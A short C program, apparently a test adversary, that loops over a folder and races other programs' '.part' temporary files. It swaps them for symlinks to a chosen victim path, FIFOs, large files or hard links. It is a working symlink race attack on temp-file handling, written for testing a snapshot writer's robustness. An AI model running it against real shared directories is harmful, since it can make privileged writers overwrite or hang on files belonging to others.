/*
 * Does to the temporary files of a folder whatever a user can who may write to it:
 * swap_names FOLDER VICTIM
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Another file of the size that a snapshot's may have. */
static void image(const char *name) {
    int fd = open(name, O_RDWR | O_CREAT | O_EXCL, 0666);
    if (fd >= 0 && ftruncate(fd, 4 << 20) == 0)
        close(fd);
}

/* The names that fail are there for the next round. */
static void swap(const char *name, const char *victim) {
    int ignored = rename(name, "away");
    switch (rand() % 5) {
    case 0:
        ignored |= symlink(victim, name);
        break;
    case 1:
        ignored |= mkfifo(name, 0666);
        break;
    case 2:
        image(name);
        break;
    case 3:
        ignored |= link("away", name);
        break;
    }
    if (rand() % 2)
        ignored |= rename("away", name);
    (void)ignored;
}

int main(int count, char **arguments) {
    if (count != 3 || chdir(arguments[1]))
        return 1;
    puts("attacking");
    fflush(stdout);
    for (;;) {
        DIR *folder = opendir(".");
        for (struct dirent *entry; folder && (entry = readdir(folder));) {
            size_t length = strlen(entry->d_name);
            if (length > 5 && strcmp(entry->d_name + length - 5, ".part") == 0)
                swap(entry->d_name, arguments[2]);
        }
        closedir(folder);
    }
}
